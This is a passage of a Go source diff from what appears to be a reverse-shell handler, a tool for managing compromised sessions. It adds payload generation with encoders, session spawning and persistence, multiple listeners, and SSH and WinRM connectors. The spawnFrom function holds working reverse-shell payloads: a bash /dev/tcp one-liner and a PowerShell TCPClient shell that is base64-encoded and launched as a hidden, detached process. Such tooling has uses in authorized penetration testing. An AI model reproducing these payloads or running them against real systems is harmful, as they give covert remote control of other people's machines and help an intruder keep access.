+// Both are extracted into the session's downloads directory unless localPath is given
+func (m *Manager) handleDownload(remotePath, localPath string, recursive bool) {
 	// Check if there's a selected session
 	if m.selectedSession == nil {
 		fmt.Println(ui.Error("No session selected. Use 'use <id>' first."))
@@ -1629,31 +1904,49 @@ func (m *Manager) handleDownload(remotePath, localPath string) {
 	}
 
 	// Create transferer
-	t := NewTransferer(m.selectedSession.Conn, m.selectedSession.ID)
+	t := NewTransferer(m.selectedSession)
 
 	// Create context with cancel for ESC handling
 	ctx, cancel := context.WithCancel(context.Background())
 	defer cancel()
 
 	// Start watching for ESC key in background
-	go WatchForCancel(ctx, cancel)
+	defer cancelOnESC(ctx, cancel)()
 
 	// Show hint
 	fmt.Println(ui.CommandHelp("Press ESC to cancel"))
 
 	// Perform download
-	err := t.Download(ctx, remotePath, localPath)
+	var err error
+	if recursive || IsGlob(remotePath) {
+		if localPath == "" {
+			localPath = m.selectedSession.DownloadsDir()
+		}
+		err = t.DownloadTree(ctx, remotePath, localPath)
+	} else {
+		err = t.Download(ctx, remotePath, localPath)
+	}
 	if err != nil {
 		fmt.Println(ui.Error(fmt.Sprintf("Download failed: %v", err)))
-		return
 	}
+}
 
-	// Drain any output from transfer commands
-	t.DrainOutput()
+// parseRecursiveFlag extracts -r from upload/download arguments
+func parseRecursiveFlag(args []string) (bool, []string) {
+	recursive := false
+	var rest []string
+	for _, arg := range args {
+		if arg == "-r" || arg == "-R" {
+			recursive = true
+			continue
+		}
+		rest = append(rest, arg)
+	}
+	return recursive, rest
 }
 
 // handleRev generates and displays reverse shell payloads
-func (m *Manager) handleRev(ip string, port int) {
+func (m *Manager) handleRev(ip string, port int, options revOptions) {
 	// Validate that we have IP and port
 	if ip == "" {
 		fmt.Println(ui.Error("No IP address available. Please specify IP with: rev <ip> <port>"))
@@ -1667,35 +1960,151 @@ func (m *Manager) handleRev(ip string, port int) {
 	// Create payload generator
 	gen := NewReverseShellGenerator(ip, port)
 
-	// Bash payloads
-	fmt.Println(ui.CommandHelp("Bash"))
-	fmt.Println(gen.GenerateBash())
-	fmt.Println(gen.GenerateBashBase64())
-	// PowerShell payload
-	fmt.Println(ui.CommandHelp("PowerShell"))
-	fmt.Println(gen.GeneratePowerShell())
+	payloads := gen.Payloads(options.lang, options.platform)
+	if len(payloads) == 0 {
+		fmt.Println(ui.Error(fmt.Sprintf("No payloads match (languages: %s)", strings.Join(PayloadLangs(), ", "))))
+		return
+	}
+
+	// Payloads the encoders don't apply to are skipped (reported when nothing is left)
+	var lastErr error
+	shown := 0
+	for _, p := range payloads {
+		payload, err := gen.Generate(p, options.encoders)
+		if err != nil {
+			lastErr = err
+			continue
+		}
+
+		title := p.Name
+		if len(options.encoders) > 0 {
+			title += " | " + strings.Join(options.encoders, " | ")
+		}
+		if p.Note != "" {
+			title += " (" + p.Note + ")"
+		}
+		fmt.Println(ui.CommandHelp(title))
+		fmt.Println(payload)
+		shown++
+	}
+
+	if shown == 0 && lastErr != nil {
+		fmt.Println(ui.Error(lastErr.Error()))
+	}
+}
+
+// revOptions filters and encodes the payloads printed by rev
+type revOptions struct {
+	lang     string
+	platform string
+	encoders []string
+}
+
+// parseRevFlags extracts --lang, --platform and --encode from rev arguments
+// --encode takes a comma-separated list and may be repeated (applied in order)
+func parseRevFlags(args []string) (revOptions, []string, error) {
+	var options revOptions
+	var rest []string
+
+	for i := 0; i < len(args); i++ {
+		flag := args[i]
+		if flag != "--lang" && flag != "--platform" && flag != "--encode" {
+			rest = append(rest, flag)
+			continue
+		}
+		if i+1 >= len(args) {
+			return options, nil, fmt.Errorf("missing value after %s", flag)
+		}
+		value := strings.ToLower(args[i+1])
+		i++
+
+		switch flag {
+		case "--lang":
+			options.lang = value
+		case "--platform":
+			if value != PlatformLinux && value != PlatformWindows {
+				return options, nil, fmt.Errorf("invalid platform: %s (linux or windows)", value)
+			}
+			options.platform = value
+		case "--encode":
+			for _, name := range strings.Split(value, ",") {
+				if _, ok := findEncoder(name); !ok {
+					return options, nil, fmt.Errorf("unknown encoder %q (%s)", name, strings.Join(PayloadEncoderNames(), ", "))
+				}
+				options.encoders = append(options.encoders, name)
+			}
+		}
+	}
+
+	return options, rest, nil
 }
 
 // handleSpawn spawns a new reverse shell from the currently selected session
-func (m *Manager) handleSpawn() {
+// listenerID selects the listener to call back to (0 = the session's own listener)
+func (m *Manager) handleSpawn(listenerID int) {
 	// Check if there's a selected session
 	if m.selectedSession == nil {
 		fmt.Println(ui.Error("No session selected. Use 'use <id>' first."))
 		return
 	}
 
-	// Validate that we have IP and port
-	if m.listenerIP == "" {
-		fmt.Println(ui.Error("No listener IP available. This shouldn't happen!"))
+	platform, err := m.spawnFrom(m.selectedSession, listenerID, "")
+	if err != nil {
+		fmt.Println(ui.Error(err.Error()))
 		return
 	}
-	if m.listenerPort == 0 {
-		fmt.Println(ui.Error("No listener port available. This shouldn't happen!"))
-		return
+
+	// Start spinner after spawnFrom drained the echo
+	spinner := ui.NewSpinner()
+	spinner.Start(fmt.Sprintf("Spawning new %s reverse shell...", platform))
+
+	// Wait briefly for connection (max 5 seconds)
+	startTime := time.Now()
+	maxWait := 5 * time.Second
+	initialSessionCount := m.GetSessionCount()
+
+	for time.Since(startTime) < maxWait {
+		time.Sleep(200 * time.Millisecond)
+
+		// Check if new session arrived
+		if m.GetSessionCount() > initialSessionCount {
+			spinner.Stop()
+			// Session notification already printed by SessionOpened()
+			return
+		}
+	}
+
+	// Timeout - but connection might still arrive later
+	spinner.Stop()
+	fmt.Println(ui.Info("Payload sent, waiting for connection..."))
+}
+
+// spawnFrom sends a background reverse shell payload through an existing session
+// listenerID selects the listener to call back to (0 = the session's own listener)
+// A non-empty token makes the new shell announce itself as a relay callback
+// ("GUMMY:<token>") instead of becoming a regular session (see control.go)
+// Returns the platform the payload was generated for
+func (m *Manager) spawnFrom(session *SessionInfo, listenerID int, token string) (string, error) {
+	// Default to the listener that accepted the session, if still running
+	if listenerID == 0 {
+		listenerID = m.sessionListenerID(session)
+	}
+
+	listenerIP, listenerPort, err := m.resolveListener(listenerID)
+	if err != nil {
+		return "", err
+	}
+
+	// Validate that we have IP and port
+	if listenerIP == "" {
+		return "", fmt.Errorf("no listener IP available")
+	}
+	if listenerPort == 0 {
+		return "", fmt.Errorf("no listener port available")
 	}
 
 	// Check platform
-	platform := m.selectedSession.Platform
+	platform := session.Platform()
 	if platform == "detecting..." || platform == "unknown" {
 		fmt.Println(ui.Warning("Platform detection incomplete. Attempting with linux payload..."))
 		platform = "linux"
@@ -1705,88 +2114,404 @@ func (m *Manager) handleSpawn() {
 	var payload string
 	switch platform {
 	case "linux", "macos":
+		if token != "" {
+			// Non-interactive bash on fd 3: no prompt or echo, only command output
+			payload = fmt.Sprintf("bash -c 'exec 3<>/dev/tcp/%s/%d; echo %s%s >&3; exec bash <&3 >&3 2>&3' >/dev/null 2>&1 &\n",
+				listenerIP, listenerPort, relayTokenPrefix, token)
+			break
+		}
 		// Bash reverse shell that runs in background
 		payload = fmt.Sprintf("bash -c 'exec bash >& /dev/tcp/%s/%d 0>&1 &'\n",
-			m.listenerIP, m.listenerPort)
+			listenerIP, listenerPort)
 	case "windows":
-		// PowerShell reverse shell (base64 encoded for reliability)
-		psScript := fmt.Sprintf("$client = New-Object System.Net.Sockets.TCPClient('%s',%d);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()",
-			m.listenerIP, m.listenerPort)
-		// Execute in background with Start-Job
-		payload = fmt.Sprintf("powershell -c \"Start-Job -ScriptBlock {%s}\"\n", psScript)
+		// Token line goes out before the first prompt
+		announce := ""
+		if token != "" {
+			announce = fmt.Sprintf("$t = ([text.encoding]::ASCII).GetBytes('%s%s'+[char]10);$stream.Write($t,0,$t.Length);",
+				relayTokenPrefix, token)
+		}
+		// PowerShell reverse shell
+		// Input is read by line (a TCP read may end mid-command) and lines are
+		// collected until they parse as complete statements (multi-line scripts)
+		psScript := fmt.Sprintf("$client = New-Object System.Net.Sockets.TCPClient('%s',%d);$stream = $client.GetStream();%s$reader = New-Object System.IO.StreamReader($stream);$data = '';while(($line = $reader.ReadLine()) -ne $null){$data += $line + [char]10;$errs = $null;[void][System.Management.Automation.Language.Parser]::ParseInput($data,[ref]$null,[ref]$errs);if($errs | Where-Object {$_.IncompleteInput}){continue};$sendback = (iex $data 2>&1 | Out-String );$data = '';$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()",
+			listenerIP, listenerPort, announce)
+		// Detached process, so it outlives the shell that launched it; encoded, so
+		// the calling shell (PowerShell or cmd) doesn't expand its $variables
+		encoded := base64.StdEncoding.EncodeToString(encodeUTF16LE(psScript))
+		payload = fmt.Sprintf("powershell -nop -c \"Start-Process -WindowStyle Hidden powershell -ArgumentList '-nop -e %s'\"\n", encoded)
 	default:
-		fmt.Println(ui.Error(fmt.Sprintf("Unsupported platform: %s", platform)))
-		return
+		return "", fmt.Errorf("unsupported platform: %s", platform)
 	}
 
 	// Send payload silently
-	_, err := m.selectedSession.Conn.Write([]byte(payload))
-	if err != nil {
-		fmt.Println(ui.Error(fmt.Sprintf("Failed to send spawn command: %v", err)))
-		return
+	if err := m.sendBackground(session, strings.TrimSuffix(payload, "\n")); err != nil {
+		return "", fmt.Errorf("failed to send spawn command: %w", err)
 	}
 
-	// Drain command echo BEFORE starting spinner to avoid race condition
-	// The remote shell will echo the command, we need to consume it silently
-	time.Sleep(150 * time.Millisecond) // Give shell time to echo
-	drainBuffer := make([]byte, 4096)
-	m.selectedSession.Conn.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
-	for {
-		n, err := m.selectedSession.Conn.Read(drainBuffer)
-		if err != nil || n == 0 {
-			break
+	return platform, nil
+}
+
+// sessionListenerID returns the ID of the listener that accepted the session
+// Returns 0 (primary listener) for bind shells or if that listener was stopped
+func (m *Manager) sessionListenerID(session *SessionInfo) int {
+	if session.Listener == nil {
+		return 0
+	}
+
+	m.mu.RLock()
+	defer m.mu.RUnlock()
+
+	if _, running := m.listeners[session.Listener.id]; running {
+		return session.Listener.id
+	}
+	return 0
+}
+
+// sendBackground runs a (backgrounded) command on a session through the mux
+// It goes over the session's control channel when there is one
+// Its echo and output never reach the interactive stream, even while the user is in 'shell'
+func (m *Manager) sendBackground(session *SessionInfo, command string) error {
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+
+	_, _, err := session.ControlSession().Mux.Exec(ctx, command)
+	return err
+}
+
+// handleMaintain handles the maintain command
+// maintain            - show settings
+// maintain <n>        - keep at least n sessions for every target (0 = off)
+// maintain <id> <n>   - keep at least n sessions for the target of session <id> (-1 = use global)
+func (m *Manager) handleMaintain(args []string) {
+	switch len(args) {
+	case 0:
+		m.ShowMaintain()
+	case 1:
+		n, err := strconv.Atoi(args[0])
+		if err != nil || n < 0 {
+			fmt.Println(ui.Error(fmt.Sprintf("Invalid session count: %s", args[0])))
+			return
+		}
+		m.SetMaintainDefault(n)
+		if n == 0 {
+			fmt.Println(ui.Success("Maintain disabled globally"))
+		} else {
+			fmt.Println(ui.Success(fmt.Sprintf("Maintaining at least %d session(s) per target", n)))
 		}
-		// Silently discard the echo
+	case 2:
+		numID, err := strconv.Atoi(args[0])
+		if err != nil {
+			fmt.Println(ui.Error(fmt.Sprintf("Invalid session ID: %s", args[0])))
+			return
+		}
+		n, err := strconv.Atoi(args[1])
+		if err != nil || n < -1 {
+			fmt.Println(ui.Error(fmt.Sprintf("Invalid session count: %s", args[1])))
+			return
+		}
+		if err := m.SetMaintainTarget(numID, n); err != nil {
+			fmt.Println(ui.Error(err.Error()))
+			return
+		}
+		fmt.Println(ui.Success(fmt.Sprintf("Maintain updated for target of session %d", numID)))
+	default:
+		fmt.Println(ui.CommandHelp("Usage: maintain [n] | maintain <session_id> <n>"))
 	}
-	m.selectedSession.Conn.SetReadDeadline(time.Time{})
+}
+
+// handleReplay plays back a session transcript
+// target is either a live session ID or a path to a .cast file
+func (m *Manager) handleReplay(target string, speed float64) {
+	path := expandUserPath(target)
 
-	// NOW start spinner after draining echo
+	if numID, err := strconv.Atoi(target); err == nil {
+		var session *SessionInfo
+		for _, s := range m.GetAllSessions() {
+			if s.NumID == numID {
+				session = s
+				break
+			}
+		}
+		if session == nil {
+			fmt.Println(ui.Error(fmt.Sprintf("Session %d not found (pass a .cast file for closed sessions)", numID)))
+			return
+		}
+		m.mu.RLock()
+		logger := session.Logger
+		m.mu.RUnlock()
+		if logger == nil {
+			fmt.Println(ui.Error(fmt.Sprintf("Session %d has no transcript", numID)))
+			return
+		}
+		path = logger.Path()
+	}
+
+	if err := ReplaySession(path, speed); err != nil {
+		fmt.Println(ui.Error(err.Error()))
+	}
+}
+
+// ConnectBind dials a bind shell on the target and registers it as a session
+// The connection goes through AddSession just like a reverse shell, so platform
+// detection, PTY upgrade, transfers and modules behave the same way
+func (m *Manager) ConnectBind(host string, port int) error {
+	addr := net.JoinHostPort(host, strconv.Itoa(port))
+
+	conn, err := net.DialTimeout("tcp", addr, 10*time.Second)
+	if err != nil {
+		return fmt.Errorf("failed to connect to %s: %w", addr, err)
+	}
+
+	// Detection blocks for a while, run it like the listener does
+	go m.AddSession(generateSessionID(), conn, conn.RemoteAddr().String(), nil)
+
+	return nil
+}
+
+// handleConnect connects to a bind shell listening on the target
+func (m *Manager) handleConnect(host string, port int) {
 	spinner := ui.NewSpinner()
-	spinner.Start(fmt.Sprintf("Spawning new %s reverse shell...", platform))
+	spinner.Start(fmt.Sprintf("Connecting to %s:%d...", host, port))
 
-	// Wait briefly for connection (max 5 seconds)
-	startTime := time.Now()
-	maxWait := 5 * time.Second
-	initialSessionCount := m.GetSessionCount()
+	err := m.ConnectBind(host, port)
+	spinner.Stop()
 
-	for time.Since(startTime) < maxWait {
-		time.Sleep(200 * time.Millisecond)
+	if err != nil {
+		fmt.Println(ui.Error(err.Error()))
+		return
+	}
 
-		// Check if new session arrived
-		if m.GetSessionCount() > initialSessionCount {
-			spinner.Stop()
-			// Session notification already printed by SessionOpened()
+	// Session notification is printed by AddSession once detection completes
+	fmt.Println(ui.Info(fmt.Sprintf("Connected to %s:%d, detecting shell...", host, port)))
+}
+
+// handleListeners handles the listeners command (list/add/stop)
+func (m *Manager) handleListeners(args []string) {
+	if len(args) == 0 || args[0] == "list" {
+		m.ListListeners()
+		return
+	}
+
+	switch args[0] {
+	case "add":
+		// listeners add <port> or listeners add <ip|interface> <port>
+		host := m.listenerIP
+		portArg := ""
+		switch len(args) {
+		case 2:
+			portArg = args[1]
+		case 3:
+			host = args[1]
+			portArg = args[2]
+		default:
+			fmt.Println(ui.CommandHelp("Usage: listeners add [ip|interface] <port>"))
+			return
+		}
+
+		port, err := strconv.Atoi(portArg)
+		if err != nil || port < 1 || port > 65535 {
+			fmt.Println(ui.Error(fmt.Sprintf("Invalid port: %s", portArg)))
+			return
+		}
+
+		if _, err := m.StartListener(host, port); err != nil {
+			fmt.Println(ui.Error(err.Error()))
+		}
+	case "stop", "del", "rm":
+		if len(args) < 2 {
+			fmt.Println(ui.CommandHelp("Usage: listeners stop <id>"))
+			return
+		}
+		id, err := strconv.Atoi(args[1])
+		if err != nil {
+			fmt.Println(ui.Error(fmt.Sprintf("Invalid listener ID: %s", args[1])))
+			return
+		}
+		if err := m.StopListener(id); err != nil {
+			fmt.Println(ui.Error(err.Error()))
 			return
 		}
+		fmt.Println(ui.Success(fmt.Sprintf("Listener %d stopped", id)))
+	default:
+		fmt.Println(ui.CommandHelp("Usage: listeners [add [ip|interface] <port> | stop <id>]"))
 	}
+}
 
-	// Timeout - but connection might still arrive later
-	spinner.Stop()
-	fmt.Println(ui.Info("Payload sent, waiting for connection..."))
+// parseListenerFlag extracts an optional "-l <id>" flag from command args
+// Returns the listener ID (0 if absent) and the remaining positional args
+func parseListenerFlag(args []string) (int, []string, error) {
+	var rest []string
+	listenerID := 0
+
+	for i := 0; i < len(args); i++ {
+		if args[i] != "-l" {
+			rest = append(rest, args[i])
+			continue
+		}
+		if i+1 >= len(args) {
+			return 0, nil, fmt.Errorf("missing listener ID after -l")
+		}
+		id, err := strconv.Atoi(args[i+1])
+		if err != nil || id < 1 {
+			return 0, nil, fmt.Errorf("invalid listener ID: %s", args[i+1])
+		}
+		listenerID = id
+		i++
+	}
+
+	return listenerID, rest, nil
 }
 
-// handleSSH connects to a remote host via SSH and executes reverse shell payload
-func (m *Manager) handleSSH(target string) {
-	// Validate that we have IP and port
-	if m.listenerIP == "" {
-		fmt.Println(ui.Error("No listener IP available. This shouldn't happen!"))
+// handleSSH connects to a remote host via SSH
+// ssh [-pw <password>] [-i <key>] [-J <jump>[,<jump>]] [-l <listener>] [--session] user@host[:port]
+// Without --session a reverse shell payload is fired back to the listener;
+// with it the SSH shell itself becomes the session
+func (m *Manager) handleSSH(args []string) {
+	usage := "Usage: ssh [-pw <password>] [-i <key>] [-J <jump>[,<jump>]] [-l <listener>] [--session] user@host[:port]"
+
+	listenerID, args, err := parseListenerFlag(args)
+	if err != nil {
+		fmt.Println(ui.Error(err.Error()))
 		return
 	}
-	if m.listenerPort == 0 {
-		fmt.Println(ui.Error("No listener port available. This shouldn't happen!"))
+
+	var options SSHOptions
+	var target string
+	asSession := false
+	for i := 0; i < len(args); i++ {
+		switch args[i] {
+		case "-pw", "-i", "-J":
+			if i+1 >= len(args) {
+				fmt.Println(ui.Error(fmt.Sprintf("Missing value after %s", args[i])))
+				return
+			}
+			value := args[i+1]
+			switch args[i] {
+			case "-pw":
+				options.Password = value
+			case "-i":
+				options.KeyFile = value
+			case "-J":
+				options.Jump = append(options.Jump, strings.Split(value, ",")...)
+			}
+			i++
+		case "--session":
+			asSession = true
+		default:
+			if target != "" || strings.HasPrefix(args[i], "-") {
+				fmt.Println(ui.CommandHelp(usage))
+				return
+			}
+			target = args[i]
+		}
+	}
+	if target == "" {
+		fmt.Println(ui.CommandHelp(usage))
 		return
 	}
 
-	// Create SSH connector
-	connector := NewSSHConnector(m.listenerIP, m.listenerPort)
+	ip, port, err := m.resolveListener(listenerID)
+	if err != nil {
+		fmt.Println(ui.Error(err.Error()))
+		return
+	}
+	connector := NewSSHConnector(ip, port)
+	connector.Options = options
+
+	fmt.Println(ui.Info(fmt.Sprintf("Connecting to %s...", target)))
 
-	// Connect silently (only SSH password prompt will show)
-	err := connector.ConnectInteractive(target)
+	if asSession {
+		conn, err := connector.OpenShell(target)
+		if err != nil {
+			fmt.Println(ui.Error(err.Error()))
+			return
+		}
+		// Detection blocks for a while, run it like the listener does
+		go m.AddSession(generateSessionID(), conn, conn.RemoteAddr().String(), nil)
+		fmt.Println(ui.Info("SSH shell opened, detecting..."))
+		return
+	}
+
+	if err := connector.Connect(target); err != nil {
+		fmt.Println(ui.Error(err.Error()))
+		return
+	}
+
+	// The session shows up through the listener once the payload connects back
+	fmt.Println(ui.Info(fmt.Sprintf("Payload sent, waiting for the reverse shell on %s:%d", ip, port)))
+}
+
+// handleWinRM connects to a Windows host via WinRM
+// winrm [-pw <password>] [-ssl] [-basic] [-l <listener>] [--session] user@host[:port]
+// Without --session the PowerShell payload is fired back to the listener;
+// with it a cmd.exe running over WinRS becomes the session
+func (m *Manager) handleWinRM(args []string) {
+	usage := "Usage: winrm [-pw <password>] [-ssl] [-basic] [-l <listener>] [--session] user@host[:port]"
+
+	listenerID, args, err := parseListenerFlag(args)
+	if err != nil {
+		fmt.Println(ui.Error(err.Error()))
+		return
+	}
+
+	var options WinRMOptions
+	var target string
+	asSession := false
+	for i := 0; i < len(args); i++ {
+		switch args[i] {
+		case "-pw":
+			if i+1 >= len(args) {
+				fmt.Println(ui.Error("Missing value after -pw"))
+				return
+			}
+			options.Password = args[i+1]
+			i++
+		case "-ssl":
+			options.HTTPS = true
+		case "-basic":
+			options.Basic = true
+		case "--session":
+			asSession = true
+		default:
+			if target != "" || strings.HasPrefix(args[i], "-") {
+				fmt.Println(ui.CommandHelp(usage))
+				return
+			}
+			target = args[i]
+		}
+	}
+	if target == "" {
+		fmt.Println(ui.CommandHelp(usage))
+		return
+	}
+
+	ip, port, err := m.resolveListener(listenerID)
 	if err != nil {
 		fmt.Println(ui.Error(err.Error()))
 		return
 	}
+	connector := NewWinRMConnector(ip, port)
+	connector.Options = options
+
+	fmt.Println(ui.Info(fmt.Sprintf("Connecting to %s...", target)))
+
+	if asSession {
+		conn, err := connector.OpenShell(target)
+		if err != nil {
+			fmt.Println(ui.Error(err.Error()))
+			return
+		}
+		// Detection blocks for a while, run it like the listener does
+		go m.AddSession(generateSessionID(), conn, conn.RemoteAddr().String(), nil)
+		fmt.Println(ui.Info("WinRM shell opened, detecting..."))
+		return
+	}
+
+	if err := connector.Connect(target); err != nil {
+		fmt.Println(ui.Error(err.Error()))
+		return
+	}
 
-	// Success - session should appear in list automatically via SessionOpened()
-	// No need to print anything here, the notification will appear when session connects
+	// The session shows up through the listener once the payload connects back
+	fmt.Println(ui.Info(fmt.Sprintf("Payload sent, waiting for the reverse shell on %s:%d", ip, port)))
 }